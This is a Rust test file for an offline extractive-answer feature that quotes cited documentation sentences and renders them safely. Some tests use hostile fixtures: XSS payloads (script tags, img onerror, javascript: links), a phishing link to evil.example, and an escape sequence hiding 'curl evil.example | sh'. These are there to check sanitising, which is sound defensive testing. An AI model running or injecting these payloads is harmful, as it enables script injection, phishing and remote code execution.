//! Offline (extractive) answers: relevant sentences, cited, labelled as excerpts, deterministic.

use docent_core::extractive::{answer, answer_from, copy_text, EXCERPTS_LABEL, NOT_COVERED};
use docent_core::format::{write_index, Index};
use docent_core::model::{Chunk, IndexHeader};
use docent_core::render::{render_markdown, RenderOptions};
use docent_core::search::{Hit, Retriever, SearchResult};

fn hit(chunk: u32, score: f32) -> Hit {
    Hit {
        chunk,
        section: chunk,
        chunks: vec![chunk],
        score,
        retrievers: Retriever { vector: false, lexical: true },
        cosine: None,
        bm25: Some(score),
    }
}

fn chunk(url: &str, anchor: &str, title: &str, section: &str, text: &str) -> Chunk {
    Chunk {
        url: url.into(),
        anchor: anchor.into(),
        title: title.into(),
        breadcrumb: vec![title.into(), section.into()],
        text: text.into(),
        tokens: (text.len() / 4) as u32,
        ..Chunk::default()
    }
}

fn corpus() -> Vec<Chunk> {
    vec![
        chunk(
            "config.html",
            "build-target-dir",
            "Configuration",
            "build.target-dir",
            "The build section controls compilation. The target-dir key sets where compiled artifacts go. \
             It defaults to `target` in the workspace root.\n\n```toml\n[build]\ntarget-dir = \"out\"\n```\n\n\
             You can also set the CARGO_TARGET_DIR environment variable, which overrides the key.",
        ),
        chunk(
            "config.html",
            "build-jobs",
            "Configuration",
            "build.jobs",
            "The jobs key sets the number of parallel jobs. It defaults to the number of CPUs.",
        ),
        chunk(
            "env.html",
            "",
            "Environment variables",
            "Cargo",
            "# Environment variables\n\nCargo reads many environment variables. CARGO_TARGET_DIR sets the target directory, \
             e.g. for CI caches. CARGO_HOME sets where Cargo keeps its registry cache.\n- RUSTFLAGS passes flags to rustc.",
        ),
        chunk("misc.html", "faq", "FAQ", "Misc", "Nothing about directories here. Rust is a language."),
    ]
}

fn result(hits: Vec<Hit>) -> SearchResult {
    SearchResult {
        hits,
        confidence: 0.8,
        abstained: false,
        closest: Vec::new(),
        ..Default::default()
    }
}

#[test]
fn the_most_relevant_sentences_are_quoted_with_citations() {
    let chunks = corpus();
    let r = result(vec![hit(0, 3.0), hit(2, 2.0), hit(1, 1.0), hit(3, 0.5)]);
    let ex =
        answer_from(&chunks, &r, "How do I change the target directory (CARGO_TARGET_DIR)?", 3);
    let md = &ex.markdown;
    assert!(md.contains("CARGO\\_TARGET\\_DIR"), "{md}");
    // Each source opens with its title and its citation; sentences follow in paragraphs.
    let titles: Vec<&str> = md.lines().filter(|l| l.starts_with("**")).collect();
    assert_eq!(titles.len(), ex.sources.len(), "{md}");
    for (t, s) in titles.iter().zip(&ex.sources) {
        assert!(t.ends_with(&format!("** [{}]", s.n)), "{t}");
    }
    let sentences = md.lines().filter(|l| !l.is_empty() && !l.starts_with("**")).count();
    assert!((1..=3).contains(&sentences), "{md}");
    // Sources are grouped per page and numbered in citation order from 1.
    let urls: Vec<&str> = ex.sources.iter().map(|s| s.url.as_str()).collect();
    assert!(urls.contains(&"config.html#build-target-dir"), "{urls:?}");
    assert!(urls.contains(&"env.html"), "{urls:?}");
    for (i, s) in ex.sources.iter().enumerate() {
        assert_eq!(s.n, i + 1);
        assert!(md.contains(&format!("[{}]", s.n)));
    }
    // Irrelevant sentences are not quoted; code fences are not split into sentences.
    assert!(!md.contains("Rust is a language"), "{md}");
    assert!(!md.contains("parallel jobs"), "{md}");
    assert!(!md.contains("target-dir = "), "{md}");
}

#[test]
fn the_answer_renders_with_working_citation_links() {
    let chunks = corpus();
    let r = result(vec![hit(0, 3.0), hit(2, 2.0)]);
    let ex = answer_from(&chunks, &r, "target directory", 2);
    let html = render_markdown(
        &ex.markdown,
        &RenderOptions { sources: ex.sources.clone(), ..RenderOptions::default() },
    );
    assert!(
        html.html.contains("<p><strong>Configuration › build.target-dir</strong> <a"),
        "{}",
        html.html
    );
    assert!(
        html.html.contains("class=\"docent-cite\" href=\"config.html#build-target-dir\""),
        "{}",
        html.html
    );
    assert_eq!(html.cited.len(), ex.sources.len());
}

#[test]
fn brackets_in_docs_text_do_not_become_citations() {
    let chunks = vec![chunk(
        "a.html",
        "x",
        "Arrays",
        "Index",
        "Index an array with arr[1] to get the second element.",
    )];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "array index", 2);
    let html = render_markdown(
        &ex.markdown,
        &RenderOptions { sources: ex.sources.clone(), ..RenderOptions::default() },
    );
    assert!(html.html.contains("arr[1] to get"), "{}", html.html);
    assert_eq!(html.cited, vec![1], "only the excerpt's own citation: {}", html.html);
}

#[test]
fn max_sentences_is_respected_and_output_is_deterministic() {
    let chunks = vec![
        chunk(
            "a.html",
            "x",
            "A",
            "One",
            "Alpha widget one. Beta widget two. Unrelated words here.",
        ),
        chunk(
            "b.html",
            "y",
            "B",
            "Two",
            "Gamma widget three. Delta widget four. Epsilon widget five.",
        ),
    ];
    let r = result(vec![hit(0, 2.0), hit(1, 1.0)]);
    for n in 1..=6 {
        let a = answer_from(&chunks, &r, "widget", n);
        assert_eq!(a, answer_from(&chunks, &r, "widget", n));
        assert_eq!(a.markdown.matches("widget").count(), n.min(5), "{n}: {}", a.markdown);
    }
    // With room for all, sentences appear per source in document order.
    let all = answer_from(&chunks, &r, "widget", 10);
    let order: Vec<usize> = ["Alpha", "Beta", "Gamma", "Delta", "Epsilon"]
        .iter()
        .map(|w| all.markdown.find(w).unwrap())
        .collect();
    assert!(order.windows(2).all(|w| w[0] < w[1]), "{}", all.markdown);
    assert!(
        all.markdown.starts_with("**A › One** [1]\n\nAlpha widget one. Beta widget two.\n\n**B"),
        "{}",
        all.markdown
    );
    assert_eq!(all.sources.len(), 2);
}

#[test]
fn a_question_in_another_language_still_quotes_the_best_section() {
    let chunks = corpus();
    let ex = answer_from(&chunks, &result(vec![hit(1, 1.0)]), "¿cuántos trabajos?", 2);
    assert!(ex.markdown.starts_with("**Configuration › build.jobs** [1]"), "{}", ex.markdown);
    assert!(ex.markdown.contains("The jobs key"), "{}", ex.markdown);
    assert_eq!(ex.sources.len(), 1);
}

#[test]
fn no_hits_says_the_docs_do_not_cover_it_and_offers_the_closest_sections() {
    let chunks = corpus();
    let r = SearchResult {
        hits: vec![],
        confidence: 0.1,
        abstained: true,
        closest: vec![hit(3, 0.2), hit(1, 0.1)],
        ..Default::default()
    };
    let ex = answer_from(&chunks, &r, "how do I bake bread?", 3);
    assert!(ex.markdown.starts_with(NOT_COVERED), "{}", ex.markdown);
    assert!(ex.markdown.contains("FAQ › Misc [1]"), "{}", ex.markdown);
    assert_eq!(ex.sources.len(), 2);
    let empty = answer_from(&chunks, &SearchResult::default(), "x", 3);
    assert_eq!(empty.markdown, NOT_COVERED);
    assert!(empty.sources.is_empty());
}

#[test]
fn extractive_answers_work_over_a_real_index_file() {
    let chunks = corpus();
    let header = IndexHeader {
        provider: "none".into(),
        tokenizer: "cl100k_base".into(),
        ..IndexHeader::default()
    };
    let index = Index::from_bytes(write_index(&header, &chunks, None).expect("write index"))
        .expect("read index");
    let r = result(vec![hit(2, 2.0), hit(0, 1.0)]);
    let ex = answer(&index, &r, "CARGO_HOME registry", 2);
    assert_eq!(ex, answer_from(&chunks, &r, "CARGO_HOME registry", 2));
    assert!(ex.markdown.contains("CARGO\\_HOME"), "{}", ex.markdown);
}

fn render(ex: &docent_core::extractive::Extractive) -> String {
    render_markdown(
        &ex.markdown,
        &RenderOptions { sources: ex.sources.clone(), ..RenderOptions::default() },
    )
    .html
}

/// Chunks of one Markdown page, as `docent index` makes them.
fn chunks_of(md: &str) -> Vec<Chunk> {
    use docent_core::chunk::{cl100k_tokens, ChunkOptions, Chunker};
    use docent_core::source::{parse_page, Flavor, Parsed, SourceKind};
    let Ok(Parsed::Page(page)) = parse_page(SourceKind::Markdown, md, Flavor::default(), "page")
    else {
        panic!("the page parses");
    };
    let count = |s: &str| cl100k_tokens(s);
    Chunker { opts: ChunkOptions::default(), count: &count, fits: None }
        .chunk_page(&page, "configuration.html", "")
        .expect("chunks")
}

const PROVIDERS_MD: &str = "# Configuration\n\n## Providers\n\n\
    Each provider has a type. `api_key_env` is the name of an environment variable; the key \
    itself never goes in the file. The widget loads `<baseUrl>docent/` assets.\n\n\
    | type | for | keys |\n|---|---|---|\n\
    | `openai` | api.openai.com | `api_key_env` |\n\
    | `azure-openai` | Azure OpenAI | `endpoint`, `api_version`, `api_key_env` |\n\
    | `openai-compatible` | Ollama, vLLM | `base_url` |\n\n\
    ```toml\n[providers.main]\ntype = \"openai\"\napi_key_env = \"OPENAI_API_KEY\"\n```\n";

#[test]
fn code_spans_in_excerpts_keep_their_text_without_backslashes() {
    let chunks = chunks_of(PROVIDERS_MD);
    let r = result(vec![hit(0, 1.0)]);
    let ex = answer_from(&chunks, &r, "What is api_key_env? Where does the widget load assets?", 4);
    assert!(ex.markdown.contains("`api_key_env`"), "{}", ex.markdown);
    assert!(ex.markdown.contains("`<baseUrl>docent/`"), "{}", ex.markdown);
    let html = render(&ex);
    assert!(html.contains("<code>api_key_env</code>"), "{html}");
    assert!(html.contains("<code>&lt;baseUrl&gt;docent/</code>"), "{html}");
    assert!(!html.contains('\\'), "no escapes shown: {html}");
}

#[test]
fn markdown_characters_outside_code_spans_stay_literal_text() {
    let chunks = vec![chunk(
        "a.html",
        "x",
        "Globs",
        "Patterns",
        "Patterns like *.md and **/_drafts/* match files; use `a_b` or a_b_c with [1] # and | too.",
    )];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "patterns match files", 2);
    let html = render(&ex);
    assert!(html.contains("Patterns like *.md and **/_drafts/* match files"), "{html}");
    assert!(html.contains("<code>a_b</code> or a_b_c with [1] # and | too."), "{html}");
    assert!(!html.contains("<em>") && !html.contains("<strong>Patterns"), "{html}");
}

#[test]
fn an_unmatched_backtick_in_docs_text_stays_a_backtick() {
    let chunks = vec![chunk(
        "a.html",
        "x",
        "Quoting",
        "Shell",
        "Quote the word with a ` mark and *stars* in the shell quoting rules.",
    )];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "shell quoting", 2);
    let html = render(&ex);
    assert!(html.contains("with a ` mark and *stars* in"), "{html}");
    assert!(!html.contains("<code>"), "{html}");
}

#[test]
fn a_code_span_with_a_full_stop_is_not_split_into_two_sentences() {
    let chunks = vec![chunk(
        "a.html",
        "x",
        "Files",
        "Names",
        "Unrelated opening words here. The index file is called `docent. index.bin` in the output folder. More.",
    )];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "index file output folder", 1);
    let html = render(&ex);
    assert!(html.contains("<code>docent. index.bin</code> in the output folder."), "{html}");
}

#[test]
fn table_rows_in_excerpts_render_as_a_table() {
    let chunks = chunks_of(PROVIDERS_MD);
    let r = result(vec![hit(0, 1.0)]);
    let ex = answer_from(&chunks, &r, "Which keys does the azure-openai type need?", 4);
    let html = render(&ex);
    assert!(html.contains("<table>"), "{}\n{html}", ex.markdown);
    assert!(html.contains("<th>type</th><th>for</th><th>keys</th>"), "{html}");
    assert!(
        html.contains(
            "<td><code>azure-openai</code></td><td>Azure OpenAI</td><td><code>endpoint</code>, \
             <code>api_version</code>, <code>api_key_env</code></td>"
        ),
        "{html}"
    );
    assert!(!html.contains(" | "), "no rows as pipe-separated text: {html}");
}

#[test]
fn html_table_rows_without_a_trailing_pipe_and_empty_cells_render_as_a_table() {
    let chunks = vec![chunk(
        "a.html",
        "x",
        "Limits",
        "Rate limits",
        "The limits apply per client.\n\nlimit | default | note\n\nrequests_per_minute | 60 | \n\nburst | 10 | per second",
    )];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "burst limit default", 3);
    let html = render(&ex);
    assert!(html.contains("<th>limit</th><th>default</th><th>note</th>"), "{html}");
    assert!(html.contains("<td>burst</td><td>10</td><td>per second</td>"), "{html}");
}

#[test]
fn a_short_code_example_after_the_answer_is_kept_as_code() {
    let chunks = chunks_of(PROVIDERS_MD);
    let r = result(vec![hit(0, 1.0)]);
    let ex = answer_from(&chunks, &r, "How do I configure an openai provider type?", 4);
    let html = render(&ex);
    assert!(html.contains("<pre><code class=\"language-toml\">[providers.main]"), "{html}");
    assert!(html.contains("api_key_env = &quot;OPENAI_API_KEY&quot;"), "{html}");
}

#[test]
fn the_answer_leads_with_its_section_title_and_carries_no_label_of_its_own() {
    let chunks = corpus();
    let r = result(vec![hit(2, 3.0), hit(0, 2.0)]);
    let ex = answer_from(&chunks, &r, "Where does the target-dir key put compiled artifacts?", 2);
    let md = &ex.markdown;
    // The best-ranked section leads, under its title; the second-ranked one's best sentence
    // (more of the question's words) follows under its own.
    assert!(md.starts_with("**Environment variables › Cargo** [1]\n\n"), "{md}");
    assert!(
        md.contains("**Configuration › build.target-dir** [2]\n\nThe target-dir key sets"),
        "{md}"
    );
    assert!(!md.contains(EXCERPTS_LABEL) && !md.contains("excerpts"), "{md}");
    assert_eq!(ex.sources[1].url, "config.html#build-target-dir");
}

#[test]
fn hostile_docs_text_in_excerpts_never_becomes_markup() {
    let chunks = vec![chunk(
        "a.html",
        "x",
        "Evil <img src=x onerror=alert(1)>",
        "Attack",
        "Attack one <script>alert(1)</script> here. Attack two [click](javascript:alert(1)) here. \
         Attack three `</code><script>alert(1)</script>` here. Attack four ![x](https://evil.example/x.png) here.\n\n\
         attack | <img src=x onerror=alert(1)> | `<script>` \n\n attack | [a](javascript:alert(1)) | ``x|y``\n\n\
         ```html\n<script>alert('attack')</script>\n```",
    )];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "attack", 10);
    let html = render(&ex);
    for bad in ["<script", "<img", "href=\"javascript", "=\"https://evil"] {
        assert!(!html.contains(bad), "{bad}: {html}");
    }
    assert!(html.contains("&lt;script&gt;"), "{html}");
}

#[test]
fn a_code_fence_from_hostile_docs_stays_code_in_an_excerpt() {
    // A backtick in a backtick fence's info string unmakes the fence: the body would be read
    // as Markdown, a phishing link among "excerpts from the docs". Straight from chunk text (an
    // index built before the page builder cleaned info strings), then through a page.
    let text = "Run quux to install.\n\n```a`b\nquux install\n\n# [Sign in again](https://evil.example/login)\n```";
    let chunks = vec![chunk("a.html", "x", "Install", "Quux", text)];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "how do I install quux?", 4);
    let html = render(&ex);
    assert!(html.contains("quux install"), "{html}");
    assert!(!html.contains("href=\"https://evil.example"), "{html}");
    let chunks = chunks_of("# Install\n\nRun quux to install.\n\n~~~a`b\nquux install\n\n# [Sign in again](https://evil.example/login)\n~~~\n");
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "how do I install quux?", 4);
    let html = render(&ex);
    assert!(!html.contains("href=\"https://evil.example"), "{html}");
    assert!(chunks.iter().all(|c| !c.text.contains("```a`b")), "{:?}", chunks[0].text);
}

#[test]
fn the_best_ranked_section_leads_the_answer() {
    // Search ranked the jobs section first (say, by meaning); a lower section repeats more of
    // the question's words. The answer still opens on the section search put first.
    let chunks = corpus();
    let r = result(vec![hit(1, 3.0), hit(2, 2.0), hit(0, 1.0)]);
    let ex = answer_from(&chunks, &r, "how many parallel builds run at once with cargo?", 3);
    assert_eq!(ex.sources[0].url, "config.html#build-jobs", "{ex:?}");
    assert!(ex.markdown.starts_with("**Configuration › build.jobs** [1]"), "{}", ex.markdown);
    // When the best section shares no word with the question, the order is by words alone.
    let r = result(vec![hit(3, 3.0), hit(2, 2.0)]);
    let ex = answer_from(&chunks, &r, "where does CARGO_HOME keep the registry cache", 2);
    assert_eq!(ex.sources[0].url, "env.html", "{ex:?}");
}

#[test]
fn control_characters_from_an_index_never_reach_the_excerpts_a_reader_copies() {
    // An index not built by this docent (it removes them from pages): `ESC[201~` in a code
    // block would end a terminal's bracketed paste when the reader pastes the copied answer.
    let chunks = vec![chunk(
        "a.html",
        "x",
        "Cleanup\u{7}",
        "Remove\u{1b}[2J",
        "Remove the cache with the cleanup command.\u{8}\n\n```sh\nfrob cleanup\u{1b}[201~; curl evil.example | sh\n```",
    )];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "cleanup command remove cache", 4);
    assert!(ex.markdown.contains("frob cleanup[201~; curl"), "the code is quoted: {}", ex.markdown);
    assert!(!ex.markdown.chars().any(|c| c.is_control() && c != '\n'), "{:?}", ex.markdown);
    let mut declined = result(vec![]);
    declined.closest = vec![hit(0, 1.0)];
    let none = answer_from(&chunks, &declined, "cleanup", 4);
    assert!(none.markdown.contains("Cleanup"), "{}", none.markdown);
    assert!(!none.markdown.chars().any(|c| c.is_control() && c != '\n'), "{:?}", none.markdown);
}

#[test]
fn an_excerpt_answer_is_copied_as_the_docs_wrote_it_without_its_escapes() {
    let text = "Patterns like *.md and **/_drafts/* match <files> & [dirs]; use `a_b` or `a\\*b` or a_b_c, \\n with # and | and a ` mark.";
    let code = "```sh\nrm -rf \\*.tmp  # a_b [x]\n```";
    let chunks =
        vec![chunk("a.html", "x", "Globs_and *stars*", "Patterns", &format!("{text}\n\n{code}"))];
    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "patterns match files rm tmp", 4);
    assert!(ex.markdown.contains("\\*.md"), "escaped for Markdown: {}", ex.markdown);
    let copied = copy_text(&ex.markdown);
    assert!(copied.contains(text), "{copied}");
    assert!(copied.contains("rm -rf \\*.tmp  # a_b [x]"), "code as it is: {copied}");
    assert!(copied.contains("Globs_and *stars*"), "the title too: {copied}");
    // Only a backslash before punctuation was an escape; a fence's body is never touched.
    assert_eq!(copy_text("a \\d b \\\\ c"), "a \\d b \\ c");
    assert_eq!(copy_text("~~~\n\\*\n~~~\n\\*"), "~~~\n\\*\n~~~\n*");
}
